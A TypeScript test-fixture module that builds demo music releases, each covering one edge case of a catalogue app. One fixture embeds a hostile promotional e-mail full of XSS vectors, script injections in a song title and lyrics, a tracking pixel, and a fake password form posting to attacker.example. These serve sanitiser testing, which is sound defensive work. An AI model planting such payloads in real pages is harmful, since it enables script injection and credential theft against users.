// The releases with fixed ids, one for every branch that acceptance tests must reach.

import type { CatalogueRelease, CatalogueTrack } from '../../catalogue/contract.ts'
import { averageColour } from '../art/covers.ts'
import { SYNTH_GENERATOR } from '../music/synth.ts'
import { videoOf } from './tracks.ts'

interface Fixture {
  id: string
  title: string
  artist: string
  label: string
  genres: string[]
  cover: string | null
  /** Seconds of each song. */
  songs: number[]
  change?(release: CatalogueRelease): void
}

/** A promotional e-mail that tries everything a hostile one would: none of it may run, load, restyle or navigate. */
export const HOSTILE_PROMO = `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=https://attacker.example/refresh"><base href="https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/style.css"><style>body,body *{display:none!important}@import url(https://attacker.example/import.css);:root{background:url(https://attacker.example/bg.png)}</style><script>window.top.document.title='owned';window.hostile=true</script></head><body onload="window.hostile=true"><h1>Hostile Weather</h1><p>This text is harmless and may be read.</p><img src="x" onerror="window.top.hostile=true"><img src="https://attacker.example/pixel.png" width="1" height="1"><svg onload="window.hostile=true"><script>window.hostile=true</script></svg><iframe src="javascript:window.top.hostile=true"></iframe><iframe srcdoc="<script>window.top.hostile=true</script>"></iframe><object data="https://attacker.example/o"></object><embed src="https://attacker.example/e"><form action="https://attacker.example/steal" method="post"><input name="password" type="password"><button>Sign in again</button></form><a href="javascript:window.top.hostile=true">Press here</a><a href="https://attacker.example/out" target="_top">Leave</a><math><mtext><img src=x onerror="window.hostile=true"></mtext></math><details open ontoggle="window.hostile=true"><summary>More</summary></details><div style="position:fixed;inset:0;background:red;z-index:2147483647">Cover</div></body></html>`

const FIXTURES: readonly Fixture[] = [
  {
    id: 'demo-stream-only', title: 'Static Bloom', artist: 'Nine Lanterns', label: 'Low Ceiling', genres: ['Alternative', 'Electronic'], cover: 'haze.midnight.2001', songs: [214, 241, 198, 352, 181],
    change: (release) => {
      release.candownload = false
      for (const song of release.songs) song.candownload = false
    },
  },
  {
    id: 'demo-no-comments', title: 'Do Not Disturb', artist: 'The Hotel Choir', label: 'Understudy', genres: ['Indie Rock'], cover: 'record.clay.2002', songs: [203, 227, 189, 216],
    change: (release) => {
      release.commenting_enabled = false
    },
  },
  {
    id: 'demo-no-sharing', title: 'For Your Ears Only', artist: 'Margot Vane', label: 'Nocturne Bureau', genres: ['Jazz'], cover: 'silhouette.orchid.2003', songs: [262, 244, 301],
    change: (release) => {
      release.allow_sharing = false
    },
  },
  {
    id: 'demo-zero-duration', title: 'Time Unknown', artist: 'Hourglass Society', label: 'Second Harvest Sound', genres: ['Ambient'], cover: 'dunes.gilt.2004', songs: [20],
    change: (release) => {
      release.duration = 0
      for (const song of release.songs) song.duration = 0
    },
  },
  {
    id: 'demo-video-only', title: 'Moving Pictures Only', artist: 'Kinetic Matinee', label: 'Pilot Light', genres: ['Pop'], cover: 'arcs.acid.2005', songs: [4],
    change: (release) => {
      release.songs = release.songs.map((song) => videoOf(song, song.ordinal))
      Object.assign(release, { trackcount: 0, videocount: 1, duration: 0 })
    },
  },
  {
    id: 'demo-no-attachments', title: 'Travelling Light', artist: 'Pocket Atlas', label: 'Blue Ferry', genres: ['Folk'], cover: 'balloons.lagoon.2006', songs: [188, 207, 233, 176],
    change: (release) => {
      release.attachments = []
    },
  },
  {
    id: 'demo-hostile-html', title: 'Hostile <b>Weather</b> <img src=x onerror=alert(1)>', artist: 'Ampersand & <i>Sons</i>', label: 'Quarter Tone', genres: ['Rock'], cover: 'op-art.crimson.2007', songs: [199, 214],
    change: (release) => {
      release.promoinfo = HOSTILE_PROMO
      const [first] = release.songs
      if (first) Object.assign(first, { title: '"><script>window.hostile=true</script>', lyrics: '<img src=x onerror="window.hostile=true"> and a line of plain words' })
    },
  },
  {
    id: 'demo-forbidden', title: 'Members of Another List', artist: 'The Velvet Rope', label: 'Maison Ardente', genres: ['Pop'], cover: 'bands.rose.2008', songs: [201],
    change: (release) => {
      release.access = 'forbidden'
    },
  },
  {
    id: 'demo-withdrawn', title: 'Recalled', artist: 'Return to Sender', label: 'Weathervane', genres: ['Alternative'], cover: 'strata.graphite.2009', songs: [219],
    change: (release) => {
      release.access = 'withdrawn'
    },
  },
  { id: 'demo-broken-image', title: 'Cover Missing', artist: 'Blank Canvas Club', label: 'Dial Tone Music', genres: ['Electronic'], cover: null, songs: [224, 205] },
  // 44.1 kHz, 16 bit, stereo is 176,400 bytes a second: a little over 300 MB.
  { id: 'demo-long', title: 'One Continuous Night', artist: 'Slow Ferry Soundsystem', label: 'Island Hours', genres: ['House', 'Ambient'], cover: 'moire.peach.2010', songs: [1701] },
] // biome-ignore format: a fixture to a few lines

/** How many fixed releases there are. */
export const FIXTURE_COUNT = FIXTURES.length
export const FIXTURE_NAMES = FIXTURES.map(({ artist, title, label }) => ({ artist, title, label }))

/** The fixed releases; the n-th becomes available `stepMs` before the one before it. */
export function* fixtures(newestMs: number, stepMs: number): Generator<CatalogueRelease, void, void> {
  for (const [n, fixture] of FIXTURES.entries()) yield build(fixture, n, newestMs - n * stepMs)
}

function build(fixture: Fixture, n: number, availableMs: number): CatalogueRelease {
  const { id, title, artist, label, genres } = fixture
  const available = new Date(availableMs).toISOString()
  const impactdate = Math.floor(availableMs / 1000) + 4 * 86_400
  const songs = fixture.songs.map((seconds, i): CatalogueTrack => {
    const name = fixture.songs.length === 1 ? title : `${title}, part ${i + 1}`
    return {
      trackid: `${id}-${String(i + 1).padStart(2, '0')}`, releaseid: id, ordinal: i + 1, title: name, artist, version: '', explicit: false, assettype: 'audio',
      duration: seconds, available, impactdate, labels: [{ name: label }], genres, market_tags: ['us', 'uk'], coverart: '', candownload: true, formats: ['wav', 'mp3'],
      album: title, language: 'English', composer: artist, writers: artist, publishing: `${label} Publishing`, producer: artist,
      isrc: `QZDEM26${String(n * 20 + i + 1).padStart(5, '0')}`, upcnumber: `2990000000${String(n).padStart(2, '0')}`, catalognumber: `DEMO-${String(n + 1).padStart(3, '0')}`,
      copyrightyear: 2026, canadian: {}, lyrics: '',
      source: { kind: 'synth', seed: `${n % 2 ? 'soul' : 'house'}.${id}.${i}`, generator: SYNTH_GENERATOR, seconds, sampleRate: 44100, bits: 16, channels: 2 },
    } // biome-ignore format: a row of facts
  })
  const release: CatalogueRelease = {
    releaseid: id, title, artist, explicit: false, available, impactdate,
    duration: songs.reduce((sum, song) => sum + song.duration, 0), trackcount: songs.length, videocount: 0,
    labels: [{ name: label }], genres, markettags: ['us', 'uk'], trending: false,
    release_type: songs.length === 1 ? 'single' : 'ep', candownload: true, commenting_enabled: true, allow_sharing: true,
    promoinfo: '', // A file that is not there: the release has an address for its cover, and the address answers 404.
    cover: fixture.cover === null ? { file: 'missing/cover.png' } : { seed: fixture.cover },
    colour: fixture.cover === null ? '#2a2d34' : averageColour(fixture.cover),
    songs, attachments: [{ title: 'One sheet.pdf', bytes: 48_211, seed: id }], access: 'open', trend: 0.02, packages: [],
  } // biome-ignore format: a row of facts
  fixture.change?.(release)
  return release
}
